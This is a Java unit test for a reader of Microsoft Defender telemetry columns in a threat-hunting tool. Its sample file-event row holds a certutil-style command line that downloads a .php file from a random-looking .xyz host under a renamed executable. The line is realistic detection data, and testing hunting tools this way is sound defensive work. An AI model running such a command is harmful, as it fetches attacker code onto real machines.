package dev.bazahunt.telemetry;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.util.ArrayList;
import java.util.Collection;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Reading a column by wire name returns, as text, exactly what the parser stored for it. */
class DefenderColumnReaderTest {

    /**
     * One row with every kind of column: text, integer, datetime with seven fractional digits, and the
     * event time. Each one must read back as the text Defender wrote.
     */
    private static final String FILE_ROW = """
            {"Timestamp":"2021-07-20T14:02:58.1034567Z","DeviceId":"b2c4e6a8f0123456789abcdef0123456789abcde",
             "ReportId":4127,"FileSize":"291840","InitiatingProcessFileName":"x8k2.exe",
             "InitiatingProcessCommandLine":"x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php",
             "InitiatingProcessCreationTime":"2021-07-20T14:02:57.9920000Z","FileOriginUrl":"http://pshe0pxe339.xyz/"}
            """;

    @Test
    void everyColumnOfTheTableHasAReader() {
        for (DefenderColumns.Column column : DefenderColumns.all()) {
            assertThat(DefenderColumnReader.forColumn(column.wireName)).as(column.wireName).isNotNull();
        }
    }

    @Test
    void columnsReadBackAsTheTextDefenderWrote() {
        DeviceFileEvent event = CollectingSink.parse(FILE_ROW, DefenderTable.DEVICE_FILE_EVENTS).onlyFileEvent();

        assertThat(read("Timestamp", event)).isEqualTo("2021-07-20T14:02:58.1034567Z");
        assertThat(read("DeviceId", event)).isEqualTo("b2c4e6a8f0123456789abcdef0123456789abcde");
        assertThat(read("ReportId", event)).isEqualTo("4127");
        assertThat(read("FileSize", event)).isEqualTo("291840");
        assertThat(read("InitiatingProcessCreationTime", event)).isEqualTo("2021-07-20T14:02:57.9920000Z");
        assertThat(read("InitiatingProcessCommandLine", event))
                .isEqualTo("x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php");
        assertThat(read("FileOriginUrl", event)).isEqualTo("http://pshe0pxe339.xyz/");
    }

    /**
     * Every column of the model, each with a value no other column has, parsed into every hunted table:
     * each column the event carries reads back exactly its own value (a getter wired to the wrong field
     * reads another column's), and each column it does not carry reads as null.
     */
    @Test
    void everyColumnReadsBackItsOwnValueInEveryHuntedTable() {
        assertThat(DefenderTable.hunted()).isNotEmpty();
        for (DefenderTable table : DefenderTable.hunted()) {
            // Email rows have their own column set; device rows share one.
            Collection<DefenderColumns.Column> columns =
                    table == DefenderTable.EMAIL_EVENTS ? DefenderColumns.email() : DefenderColumns.all();
            StringBuilder row = new StringBuilder("{");
            Map<String, String> expected = new HashMap<>();
            int n = 0;
            for (DefenderColumns.Column column : columns) {
                n++;
                String value;
                String json;
                switch (column.kind) {
                    case INTEGER -> {
                        value = Long.toString(7_000_000_000L + n);
                        json = value;
                    }
                    case DATETIME, EVENT_TIME, EVENT_TIME_FALLBACK -> {
                        value = String.format("2021-07-20T14:%02d:%02d.%07dZ", n / 60, n % 60, 1_000_000 + n);
                        json = "\"" + value + "\"";
                    }
                    case JSON_TEXT -> {
                        value = "{\"n\":" + n + "}";
                        json = "\"{\\\"n\\\":" + n + "}\"";
                    }
                    default -> {
                        value = column.wireName + " value " + n;
                        json = "\"" + value + "\"";
                    }
                }
                expected.put(column.wireName, value);
                row.append(row.length() > 1 ? "," : "").append('"').append(column.wireName).append("\":").append(json);
            }
            row.append('}');
            // Timestamp wins over TimeGenerated; both read back as the event time.
            expected.put("TimeGenerated", expected.get("Timestamp"));

            CollectingSink sink = CollectingSink.parse(row.toString(), table);
            assertThat(sink.deadLetters).as(table + ": " + sink.deadLetters).isEmpty();
            List<DefenderEvent> events = new ArrayList<>();
            events.addAll(sink.fileEvents);
            events.addAll(sink.processEvents);
            events.addAll(sink.networkEvents);
            events.addAll(sink.emailEvents);
            assertThat(events).as(table.tableName()).hasSize(1);
            DefenderEvent event = events.get(0);
            int carried = 0;
            for (DefenderColumns.Column column : columns) {
                DefenderColumnReader reader = DefenderColumnReader.forColumn(table, column.wireName);
                String read = reader == null ? null : reader.read(event);
                if (column.appliesTo(event)) {
                    assertThat(read).as(table + " " + column.wireName).isEqualTo(expected.get(column.wireName));
                    carried++;
                } else {
                    assertThat(read).as(table + " " + column.wireName + " belongs to another table").isNull();
                }
            }
            assertThat(carried).as(table.tableName()).isGreaterThan(10);
        }
    }

    @Test
    void absentValuesAndOtherTablesColumnsReadAsNull() {
        DeviceFileEvent event = CollectingSink.parse(FILE_ROW, DefenderTable.DEVICE_FILE_EVENTS).onlyFileEvent();

        assertThat(read("InitiatingProcessAccountName", event)).isNull();
        assertThat(read("InitiatingProcessParentId", event)).isNull();
        assertThat(read("ProcessCommandLine", event)).isNull();
    }

    @Test
    void unknownAndMisspelledColumnsHaveNoReader() {
        assertThat(DefenderColumnReader.forColumn("InitiatingProcessComandLine")).isNull();
        assertThat(DefenderColumnReader.forColumn("initiatingprocesscommandline")).isNull();
        assertThat(DefenderColumnReader.forColumn(null)).isNull();
    }

    @Test
    void aDeserializedReaderStillReads() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(DefenderColumnReader.forColumn("InitiatingProcessFileName"));
        }
        DefenderColumnReader copy;
        try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray()))) {
            copy = (DefenderColumnReader) in.readObject();
        }
        DeviceFileEvent event = CollectingSink.parse(FILE_ROW, DefenderTable.DEVICE_FILE_EVENTS).onlyFileEvent();

        assertThat(copy.read(event)).isEqualTo("x8k2.exe");
    }

    private static String read(String wireName, DefenderEvent event) {
        return DefenderColumnReader.forColumn(wireName).read(event);
    }
}
